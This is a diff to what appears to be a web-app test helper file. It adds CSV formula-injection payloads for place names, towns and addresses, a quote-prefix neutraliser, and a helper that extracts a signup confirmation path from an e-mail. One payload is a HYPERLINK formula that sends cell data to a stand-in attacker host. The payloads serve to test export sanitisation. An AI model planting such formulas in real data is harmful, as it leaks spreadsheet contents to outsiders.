@@ -14,3 +14,25 @@ def log_in(page, username, password=None):
     page.get_by_label("Adresse e-mail ou identifiant").fill(username)
     page.get_by_label("Mot de passe").fill(password or username)
     page.get_by_role("button", name="Se connecter").last.click()
+
+
+# Cells an attacker types into a place's name, town or address, hoping that a funder's
+# spreadsheet runs them (CSV formula injection).
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+HOSTILE_TOWN = "+SUM(1;2)"
+HOSTILE_ADDRESS = "@SUM(A1:A9)"
+
+
+def neutralised(value):
+    """How every CSV export of the site writes a formula-like text: quoted, shown as text."""
+    return "'" + value
+
+
+def confirmation_path(message):
+    """The path of the signup confirmation link in an e-mail (places.signup)."""
+    import re
+    from urllib.parse import urlsplit
+
+    found = re.search(r"https?://\S+/structure/inscription/confirmer/\S+/", message.body)
+    assert found, message.body
+    return urlsplit(found.group(0)).path
